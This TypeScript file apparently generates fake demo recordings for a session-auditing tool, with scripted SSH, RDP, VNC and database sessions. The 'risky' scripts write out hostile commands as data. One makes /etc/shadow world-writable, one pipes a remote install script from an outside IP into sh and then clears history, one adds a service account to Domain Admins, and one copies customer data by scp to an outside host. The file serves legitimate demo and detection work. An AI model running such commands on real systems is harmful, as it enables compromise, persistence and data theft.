/**
 * The demo recordings: SSH terminals typed key by key (risky commands, a
 * masked password prompt), RDP and VNC desktops with a moving pointer and
 * sound, MySQL and PostgreSQL proxy sessions, a failed session without media,
 * a session still active and one recording of over 2 hours.
 */
import type { SessionEventInput, StartSessionInput } from "@/lib/ingest/schemas";
import { renderDesktop, type Desktop } from "./paint/desktop";
import { encodeTerminal, renderLongRecording, renderTerminal, type MediaFormat, type TerminalScript } from "./paint/terminal";

export type DemoSession = {
  label: string;
  start: Omit<StartSessionInput, "hash" | "startedAt">;
  startedAgoMs: number;
  media: (dir: string) => Promise<{ file: string | null; events: SessionEventInput[]; durationMs: number }>;
  chunkSize?: number;
  /** Omitted: the session is still active (only some chunks sent). */
  finish: "ok" | "active" | { errorMessage: string };
};

const TERM = { width: 960, height: 540, fontSize: 17 };

const RISKY_SSH: TerminalScript = {
  seed: 11,
  prompt: "alice@web-01:~$ ",
  banner: ["Welcome to Ubuntu 24.04 LTS (GNU/Linux 6.8.0-31-generic x86_64)", "Last login: Mon Mar  2 08:12:44 2026 from 10.20.4.17", ""],
  steps: [
    { kind: "type", text: "uptime", output: [" 09:41:07 up 41 days,  3:12,  2 users,  load average: 0.31, 0.28, 0.22"] },
    {
      kind: "type",
      text: "ls -la /etc/nginx",
      output: [
        "total 64",
        "drwxr-xr-x  8 root root 4096 Feb 11 10:02 .",
        "-rw-r--r--  1 root root 1482 Feb 11 10:02 nginx.conf",
        "drwxr-xr-x  2 root root 4096 Feb 11 10:02 sites-enabled",
      ],
    },
    { kind: "type", text: "sudo su -" },
    { kind: "password", prompt: "[sudo] password for alice: ", length: 11, prompt2: "root@web-01:~# " },
    { kind: "type", text: "id", output: ["uid=0(root) gid=0(root) groups=0(root)"] },
    { kind: "type", text: "chmod 777 /etc/shadow" },
    { kind: "type", text: "ls -l /etc/shadow", output: ["-rwxrwxrwx 1 root shadow 1392 Feb 11 10:02 /etc/shadow"] },
    {
      kind: "type",
      text: "curl -fsSL http://203.0.113.66/install.sh | sh",
      output: ["[+] downloading agent...", "[+] installing to /usr/local/bin/.cache-agent", "[+] done"],
    },
    { kind: "type", text: "history -c" },
    { kind: "type", text: "exit", output: ["logout"], prompt: "alice@web-01:~$ " },
    { kind: "type", text: "exit", output: ["logout", "Connection to web-01 closed."] },
  ],
};

const ROUTINE_SSH: TerminalScript = {
  seed: 22,
  prompt: "bob@app-02:~$ ",
  banner: ["Debian GNU/Linux 12 (bookworm)", "Last login: Tue Mar  3 14:02:10 2026 from 10.20.4.31", ""],
  steps: [
    { kind: "type", text: "df -h /", output: ["Filesystem      Size  Used Avail Use% Mounted on", "/dev/sda1        79G   41G   35G  55% /"] },
    {
      kind: "type",
      text: "systemctl status app --no-pager",
      output: [
        "● app.service - Billing application",
        "     Loaded: loaded (/etc/systemd/system/app.service; enabled)",
        "     Active: active (running) since Sun 2026-03-01 02:00:03 UTC",
      ],
    },
    {
      kind: "type",
      text: "tail -n 3 /var/log/app/app.log",
      output: [
        "2026-03-03 14:03:01 INFO  invoice batch 8812 done (214 ms)",
        "2026-03-03 14:03:05 WARN  slow query on invoices (1.2 s)",
        "2026-03-03 14:03:09 INFO  invoice batch 8813 done (198 ms)",
      ],
    },
    { kind: "type", text: "exit", output: ["logout"] },
  ],
};

const MYSQL: TerminalScript = {
  seed: 33,
  prompt: "mysql> ",
  banner: ["Welcome to the MySQL monitor.  Commands end with ; or /g.", "Server version: 8.0.36 MySQL Community Server - GPL", ""],
  steps: [
    { kind: "query", statement: "USE shop;", outcome: "success", rowsAffected: 0, output: ["Database changed"] },
    {
      kind: "query",
      statement: "SELECT id, email FROM customers WHERE created_at > '2026-03-01' LIMIT 20;",
      outcome: "success",
      rowsAffected: 20,
      output: ["(20 rows shown by the client; result rows are not recorded)", "20 rows in set (0.01 sec)"],
    },
    {
      kind: "query",
      statement: "UPDATE orders SET status = 'refunded' WHERE id = 88123;",
      outcome: "success",
      rowsAffected: 1,
      output: ["Query OK, 1 row affected (0.02 sec)"],
    },
    {
      kind: "query",
      statement: "SELECT * FROM paymnets;",
      outcome: "error",
      errorMessage: "ERROR 1146 (42S02): Table 'shop.paymnets' doesn't exist",
      output: ["ERROR 1146 (42S02): Table 'shop.paymnets' doesn't exist"],
    },
    {
      kind: "query",
      statement: "DROP TABLE audit_trail;",
      outcome: "error",
      errorMessage: "ERROR 1142 (42000): DROP command denied to user 'app_ro'@'10.20.4.17' for table 'audit_trail'",
      output: ["ERROR 1142 (42000): DROP command denied to user 'app_ro'@'10.20.4.17'"],
    },
    {
      kind: "query",
      statement: "GRANT ALL PRIVILEGES ON *.* TO 'app_ro'@'%';",
      outcome: "error",
      errorMessage: "ERROR 1045 (28000): Access denied for user 'app_ro'@'10.20.4.17'",
      output: ["ERROR 1045 (28000): Access denied for user 'app_ro'@'10.20.4.17'"],
    },
  ],
};

const POSTGRES: TerminalScript = {
  seed: 44,
  prompt: "billing=> ",
  banner: ["psql (16.2)", "SSL connection (protocol: TLSv1.3, cipher: TLS_AES_256_GCM_SHA384)", 'Type "help" for help.', ""],
  steps: [
    {
      kind: "query",
      statement: "SELECT count(*) FROM invoices WHERE paid_at IS NULL;",
      outcome: "success",
      rowsAffected: 1,
      output: [" count ", "-------", "   412", "(1 row)"],
    },
    {
      kind: "query",
      statement: "DELETE FROM sessions WHERE expires_at < now() - interval '30 days';",
      outcome: "success",
      rowsAffected: 1873,
      output: ["DELETE 1873"],
    },
    {
      kind: "query",
      statement: "ALTER TABLE invoices DROP COLUMN legacy_ref;",
      outcome: "error",
      errorMessage: "ERROR:  must be owner of table invoices",
      output: ["ERROR:  must be owner of table invoices"],
    },
    {
      kind: "query",
      statement: "COPY customers TO '/tmp/customers.csv' CSV;",
      outcome: "error",
      errorMessage: "ERROR:  permission denied to COPY to a file",
      output: ["ERROR:  permission denied to COPY to a file"],
    },
    {
      kind: "query",
      statement: "UPDATE invoices SET due_date = due_date + 7 WHERE customer_id = 5512;",
      outcome: "success",
      rowsAffected: 3,
      output: ["UPDATE 3"],
    },
  ],
};

const ACTIVE_SSH: TerminalScript = {
  seed: 55,
  prompt: "alice@db-03:~$ ",
  banner: ["Last login: Sat Mar  7 09:55:02 2026 from 10.20.4.17", ""],
  steps: [
    { kind: "type", text: "sudo -l", output: ["User alice may run the following commands on db-03:", "    (root) /usr/bin/systemctl restart postgresql"] },
    {
      kind: "type",
      text: "journalctl -u postgresql --since today | tail -n 2",
      output: [
        "Mar 07 09:58:12 db-03 postgres[811]: checkpoint complete",
        'Mar 07 10:01:44 db-03 postgres[811]: automatic vacuum of table "billing.public.invoices"',
      ],
    },
    {
      kind: "type",
      text: "top -b -n 1 | head -n 5",
      output: ["top - 10:02:31 up 12 days,  1:01,  1 user,  load average: 1.12, 0.94, 0.80", "Tasks: 183 total,   1 running, 182 sleeping"],
    },
  ],
};

function terminalSession(script: TerminalScript, format: MediaFormat, name: string) {
  return async (dir: string) => {
    const rendered = renderTerminal(script, TERM);
    const file = await encodeTerminal(dir, name, rendered, { ...TERM, fps: 5, format });
    return { file, events: rendered.events, durationMs: rendered.durationMs };
  };
}

const RDP_DESKTOP: Desktop = {
  seed: 66,
  durationMs: 36_000,
  background: "0x1f6fb2",
  taskbar: "0x1b1f2a",
  windows: [
    {
      title: "Server Manager - Dashboard",
      x: 60,
      y: 50,
      w: 560,
      h: 360,
      color: "0xf3f3f3",
      openAt: 1500,
      lines: ["Roles and Server Groups", "  AD DS          1   Manageability", "  DNS            1   Events", "  File Services  1   Services"],
    },
    {
      title: "Active Directory Users and Computers",
      x: 300,
      y: 160,
      w: 600,
      h: 380,
      color: "0xfafafa",
      openAt: 9000,
      lines: ["corp.example.com", "  Domain Admins", "  Users", "  Service Accounts"],
    },
    { title: "Windows PowerShell (Administrator)", x: 180, y: 300, w: 640, h: 300, color: "0xeeeeee", openAt: 20_000, lines: ["PS C:/Users/Administrator>"] },
  ],
  typing: { windowIndex: 2, at: 22_500, text: "Add-ADGroupMember -Identity 'Domain Admins' -Members svc-backup" },
  pointer: [
    { t: 500, x: 900, y: 600 },
    { t: 1400, x: 120, y: 735, click: "left" },
    { t: 4000, x: 200, y: 130 },
    { t: 6000, x: 260, y: 160, click: "left" },
    { t: 8800, x: 600, y: 200, click: "left" },
    { t: 12_000, x: 420, y: 250, click: "left" },
    { t: 14_000, x: 430, y: 270, click: "right" },
    { t: 19_500, x: 500, y: 320, click: "left" },
    { t: 30_000, x: 780, y: 560 },
    { t: 34_000, x: 870, y: 60, click: "left" },
  ],
};

const VNC_DESKTOP: Desktop = {
  seed: 77,
  durationMs: 28_000,
  background: "0x3c3f41",
  taskbar: "0x232526",
  windows: [
    {
      title: "Files - /srv/exports",
      x: 40,
      y: 40,
      w: 520,
      h: 320,
      color: "0xf6f5f4",
      openAt: 1200,
      lines: ["customers-2026-02.csv   18 MB", "invoices-2026-02.csv    41 MB", "readme.txt               2 KB"],
    },
    { title: "Terminal - bob@analytics-01", x: 320, y: 220, w: 600, h: 300, color: "0x2e3436", openAt: 11_000, lines: [] },
  ],
  typing: { windowIndex: 1, at: 13_000, text: "scp /srv/exports/customers-2026-02.csv bob@198.51.100.23:/tmp/" },
  pointer: [
    { t: 300, x: 700, y: 500 },
    { t: 2500, x: 150, y: 90, click: "left" },
    { t: 5000, x: 160, y: 120, click: "left" },
    { t: 7000, x: 160, y: 120, click: "right" },
    { t: 10_500, x: 500, y: 240, click: "left" },
    { t: 26_000, x: 900, y: 100 },
  ],
};

function desktopSession(desktop: Desktop, name: string) {
  return async (dir: string) => {
    const { file, events } = await renderDesktop(dir, name, desktop, { width: 1024, height: 768, fps: 8 });
    return { file, events, durationMs: desktop.durationMs };
  };
}

const HOUR = 3_600_000;

/** The demo sessions, newest last; `startedAgoMs` places them in the recent past. */
export const DEMO_RECORDINGS: DemoSession[] = [
  {
    label: "SSH with risky commands (MP4)",
    start: {
      protocol: "ssh",
      host: "web-01.corp.example.com",
      credentialUsername: "alice",
      user: "Alice Martins",
      userIp: "10.20.4.17",
      clusterNode: "proxy-a",
    },
    startedAgoMs: 26 * HOUR,
    media: terminalSession(RISKY_SSH, "mp4", "ssh-risky"),
    chunkSize: 128 * 1024,
    finish: "ok",
  },
  {
    label: "SSH routine maintenance (WebM/VP9)",
    start: { protocol: "ssh", host: "app-02.corp.example.com", credentialUsername: "bob", user: "Bob Chen", userIp: "10.20.4.31", clusterNode: "proxy-b" },
    startedAgoMs: 22 * HOUR,
    media: terminalSession(ROUTINE_SSH, "webm", "ssh-routine"),
    chunkSize: 64 * 1024,
    finish: "ok",
  },
  {
    label: "RDP to a domain controller (H.264 + AAC)",
    start: {
      protocol: "rdp",
      host: "dc-01.corp.example.com",
      credentialUsername: "CORP\\Administrator",
      user: "Alice Martins",
      userIp: "10.20.4.17",
      clusterNode: "proxy-a",
    },
    startedAgoMs: 20 * HOUR,
    media: desktopSession(RDP_DESKTOP, "rdp"),
    chunkSize: 256 * 1024,
    finish: "ok",
  },
  {
    label: "VNC to an analytics desktop (H.264 + AAC)",
    start: {
      protocol: "vnc",
      host: "analytics-01.corp.example.com",
      credentialUsername: "bob",
      user: "Bob Chen",
      userIp: "10.20.4.31",
      clusterNode: "proxy-b",
    },
    startedAgoMs: 9 * HOUR,
    media: desktopSession(VNC_DESKTOP, "vnc"),
    chunkSize: 256 * 1024,
    finish: "ok",
  },
  {
    label: "MySQL proxy session",
    start: {
      protocol: "mysql",
      host: "mysql-shop.corp.example.com",
      credentialUsername: "app_ro",
      user: "Alice Martins",
      userIp: "10.20.4.17",
      clusterNode: "proxy-a",
    },
    startedAgoMs: 7 * HOUR,
    media: terminalSession(MYSQL, "mp4", "mysql"),
    chunkSize: 128 * 1024,
    finish: "ok",
  },
  {
    label: "PostgreSQL proxy session",
    start: {
      protocol: "postgresql",
      host: "pg-billing.corp.example.com",
      credentialUsername: "billing_ops",
      user: "Bob Chen",
      userIp: "10.20.4.31",
      clusterNode: "proxy-b",
    },
    startedAgoMs: 5 * HOUR,
    media: terminalSession(POSTGRES, "mp4", "postgres"),
    chunkSize: 128 * 1024,
    finish: "ok",
  },
  {
    label: "Failed SSH connection (no media)",
    start: { protocol: "ssh", host: "legacy-07.corp.example.com", credentialUsername: "root", user: "Carol Diaz", userIp: "10.20.5.9", clusterNode: "proxy-a" },
    startedAgoMs: 4 * HOUR,
    media: async () => ({ file: null, events: [], durationMs: 2300 }),
    finish: { errorMessage: "Connection to legacy-07.corp.example.com:22 failed: host key verification failed" },
  },
  {
    label: "Backup watch, 2 h 05 min (long recording)",
    start: { protocol: "ssh", host: "backup-01.corp.example.com", credentialUsername: "root", user: "Bob Chen", userIp: "10.20.4.31", clusterNode: "proxy-b" },
    startedAgoMs: 3 * HOUR,
    media: (dir) => renderLongRecording(dir, 125),
    chunkSize: 1024 * 1024,
    finish: "ok",
  },
  {
    label: "SSH still active",
    start: {
      protocol: "ssh",
      host: "db-03.corp.example.com",
      credentialUsername: "alice",
      user: "Alice Martins",
      userIp: "10.20.4.17",
      clusterNode: "proxy-a",
    },
    startedAgoMs: 6 * 60_000,
    media: terminalSession(ACTIVE_SSH, "mp4", "ssh-active"),
    chunkSize: 64 * 1024,
    finish: "active",
  },
];
